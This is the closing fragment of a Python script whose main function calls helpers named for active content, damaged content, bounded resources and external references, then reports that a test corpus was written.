    active_content()
    damaged_content()
    bounded_resources()
    external_references()
    print(f"corpus written to {HERE}")


if __name__ == "__main__":
    main()
